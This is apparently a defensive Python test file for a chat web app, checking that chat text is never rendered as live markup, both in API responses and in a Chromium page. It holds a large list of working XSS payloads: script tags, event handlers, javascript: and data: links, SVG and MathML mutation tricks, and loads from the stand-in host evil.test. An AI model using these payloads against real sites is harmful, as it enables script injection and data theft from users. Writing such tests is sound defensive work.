"""Markup in every text that reaches the page: it stays text, in the API's bytes and in Chromium.

The page is driven through roles alone and judged by what must not happen: dialogs, a changed title
or window, requests to other hosts, violations of the policy (markup that the policy had to stop).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import shutil
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
import uvicorn

from moss.config.serve import ServeChatConfig
from serve.app import build_app
from serve.auth import ApiKeys
from serve.chat_service import ChatService
from tests.attacks.conftest import CHAT, Target, assert_safe_headers, body, sse_parts
from tests.attacks.counting import attack
from tests.attacks.target import build_service

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
HIT = "window.pwned=1;document.title='pwned'"
PAYLOADS = {
    "a script": f"<script>{HIT}</script>",
    "a script of another host": "<script src=http://evil.test/x.js></script>",
    "an image error": f'<img src=x onerror="{HIT}">',
    "an image of another host": "<img src=http://evil.test/leak.png>",
    "a markdown image": "![x](http://evil.test/leak.png)",
    "a markdown image with a title": '![x](http://evil.test/a.png "onerror=alert(1)")',
    "a reference image": "![x][1]\n\n[1]: http://evil.test/ref.png",
    "a markdown link": f"[click](javascript:{HIT})",
    "a link with a tab": f"[click](java\tscript:{HIT})",
    "a link with entities": "[click](&#106;avascript:alert(1))",
    "a data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a vbscript link": "[click](vbscript:msgbox(1))",
    "an automatic link": f"<javascript:{HIT}>",
    "an anchor": f'<a href="javascript:{HIT}" autofocus onfocus="{HIT}">x</a>',
    "a frame": f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    "a frame of another host": '<iframe src="http://evil.test/frame"></iframe>',
    "an object": '<object data="http://evil.test/o"></object>',
    "an embed": '<embed src="http://evil.test/e">',
    "SVG": f'<svg onload="{HIT}"><animate onbegin="{HIT}" attributeName=x></svg>',
    "SVG with a script": f"<svg><script>{HIT}</script></svg>",
    "SVG use": '<svg><use href="http://evil.test/u.svg#x"/></svg>',
    "MathML": f'<math><mtext><img src=x onerror="{HIT}"></mtext></math>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
                f'onerror={HIT}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    "a style": "<style>*{display:none}</style>",
    "an imported style": "<style>@import 'http://evil.test/s.css'</style>",
    "an inline style": '<p style="background:url(http://evil.test/b.png)">x</p>',
    "a style sheet": '<link rel=stylesheet href="http://evil.test/s.css">',
    "a prefetch": '<link rel=prefetch href="http://evil.test/p">',
    "a base": '<base href="http://evil.test/">',
    "a meta refresh": '<meta http-equiv=refresh content="0;url=http://evil.test/">',
    "a form": '<form action="http://evil.test/f"><input name=x autofocus onfocus=alert(1)></form>',
    "a video": f'<video src=x onerror="{HIT}"><source onerror="{HIT}"></video>',
    "details": f'<details open ontoggle="{HIT}">x</details>',
    "a marquee": f'<marquee onstart="{HIT}">x</marquee>',
    "a dialog": f'<dialog open onclose="{HIT}">x</dialog>',
    "a closing tag": f"</textarea></title></div></script><script>{HIT}</script>",
    "a comment": f"<!--><script>{HIT}</script-->",
    "CDATA": f"<![CDATA[<script>{HIT}</script>]]>",
    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "double entities": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "a null byte's replacement": f"<scr\ufffdipt>{HIT}</script>",
    "full-width brackets": f"＜script＞{HIT}＜/script＞",
    "case": f"<ScRiPt>{HIT}</sCrIpT>",
    "a broken tag": f'<img src="x"onerror="{HIT}"',
    "a code block that ends early": f"```\n</code></pre><script>{HIT}</script>\n```",
    "a code block's language": f'```"><script>{HIT}</script>\nx\n```',
    "inline code": f"`</code><img src=x onerror={HIT}>`",
    "math": r"$\href{javascript:alert(1)}{x}$ \(\url{javascript:alert(1)}\)",
    "math with HTML": r"$$\htmlData{onclick=alert(1)}{x}$$ $\includegraphics{http://evil.test/m}$",
    "a math bomb": r"$\def\a{aaaa}\def\b{\a\a\a\a}\def\c{\b\b\b\b}\c\c\c\c$",
    "a table": f"| a |\n|---|\n| <img src=x onerror={HIT}> |",
    "a citation": f"<sup><|1|></sup><sup onmouseover={HIT}>1</sup>",
    "a template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
    "a prototype": '{"__proto__": {"html": true}}',
    "an event stream": "x\n\ndata: [DONE]\n\nevent: error\ndata: {}",
    "bidi marks": "\u202e<script>alert(1)</script>\u202c",
    "an endless word": "W" * 3_000,
    "combining marks": "e" + "\u0301" * 500,
}  # fmt: skip


@attack("markup through the API", PAYLOADS)
def test_answers_carry_markup_as_data_with_safe_headers(target: Target, case: str) -> None:
    with target.client() as client:
        client.cookies.set("moss_user", "e" * 64)
        whole = client.post(CHAT, json=body(case, moss={"store": {}}))
        assert whole.headers["content-type"] == "application/json"
        message = whole.json()["choices"][0]["message"]
        assert message["content"] == case
        path = f"/app/conversations/{message['moss']['conversation_id']}"
        streamed = client.post(CHAT, json=body(case, stream=True))
        assert streamed.headers["content-type"].startswith("text/event-stream")
        assert streamed.text.endswith("data: [DONE]\n\n")
        deltas = [part["choices"][0]["delta"] for part in sse_parts(streamed.text)]
        assert "".join(delta.get("content") or "" for delta in deltas) == case
        shown, listed = client.get(path), client.get("/app/conversations")
        refused = client.post(CHAT, json=body(model=case[:200]))
        named = client.get("/v1/models/" + "".join(f"%{byte:02x}" for byte in case.encode()))
        for answer in (whole, streamed, shown, listed, refused, named):
            assert_safe_headers(answer)
            assert not answer.headers["content-type"].startswith("text/html")
        assert client.delete(path).is_success


@contextlib.asynccontextmanager
async def serving(service: ChatService) -> AsyncIterator[str]:
    server = uvicorn.Server(
        uvicorn.Config(build_app(service, ApiKeys()), port=0, log_level="warning")
    )
    task = asyncio.create_task(server.serve())
    while not server.started:
        await asyncio.sleep(0.02)
    yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    server.should_exit = True
    await task


class Witness:
    """What happened in the browser that must not happen."""

    def __init__(self, url: str, page: Any) -> None:
        self.events: list[str] = []
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda error: self.events.append(f"error {error}"))
        page.on("popup", lambda _: self.events.append("popup"))
        page.on("request", lambda request: self._request(url, request.url))
        page.on("console", lambda message: self._console(message.text))

    async def _dialog(self, dialog: Any) -> None:
        self.events.append(f"dialog {dialog.message}")
        await dialog.dismiss()

    def _request(self, url: str, asked: str) -> None:
        if not asked.startswith((url, "data:", "blob:")):
            self.events.append(f"request {asked}")

    def _console(self, text: str) -> None:
        if "Content Security Policy" in text:
            self.events.append(f"policy {text}")


@pytest_asyncio.fixture
async def visit(tmp_path: Path) -> AsyncIterator[tuple[Any, Witness, ChatService]]:
    from playwright.async_api import async_playwright

    service = build_service(tmp_path)
    service.config = ServeChatConfig.model_validate(
        {**service.config.model_dump(), "http": {"port": 0}}
    )
    async with serving(service) as url, async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"]
        )
        context = await browser.new_context(locale="en-US")
        page = await context.new_page()
        witness = Witness(url, page)
        await page.goto(url)
        yield page, witness, service
        await browser.close()
    service.store.close()


async def send(page: Any, service: ChatService, text: str) -> None:
    """Ask through the page's one visible text box, and wait for the answer's end."""
    boxes = page.get_by_role("textbox").and_(page.locator("textarea, [contenteditable]"))
    box = boxes.last
    await box.wait_for(state="visible")
    await box.fill(text)
    async with page.expect_response(lambda answer: CHAT in answer.url) as coming:
        await box.press("Enter")
    await coming.value
    while service._num_ongoing:
        await asyncio.sleep(0.05)
    await asyncio.sleep(0.5)  # the page shows the end


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium (apt-get install chromium)")
async def test_no_payload_becomes_markup_in_the_page(
    visit: tuple[Any, Witness, ChatService],
) -> None:
    page, witness, service = visit
    title = await page.title()
    names = list(PAYLOADS)
    for start in range(0, len(names), 8):  # several at once: a page each would take minutes
        texts = [f"case {names.index(name)}\n\n{PAYLOADS[name]}" for name in names[start:][:8]]
        await send(page, service, "\n\n".join(texts))
    await check(page, witness, title)
    await page.reload()  # the history shows them again, from the store
    entry = page.get_by_text("case 0", exact=False).first
    await entry.wait_for()
    await entry.click()
    await asyncio.sleep(1.0)
    await check(page, witness, title)


async def check(page: Any, witness: Witness, title: str) -> None:
    found = await page.evaluate(
        """() => ({title: document.title, pwned: window.pwned ?? null,
        foreign: [...document.querySelectorAll('script,iframe,object,embed,base,form,link,img')]
          .map(item => item.src || item.href || item.data || item.action || '')
          .filter(url => url && typeof url === 'string' && url.includes('evil.test')),
        handlers: [...document.querySelectorAll('*')].filter(item => [...item.attributes]
          .some(one => one.name.startsWith('on'))).length,
        links: [...document.querySelectorAll('a')].map(item => item.protocol)})"""
    )
    assert witness.events == [], json.dumps(witness.events)
    assert found["pwned"] is None
    assert found["title"] == title
    assert found["foreign"] == []
    assert found["handlers"] == 0
    assert set(found["links"]) <= {"http:", "https:", "mailto:", ":", "blob:"}
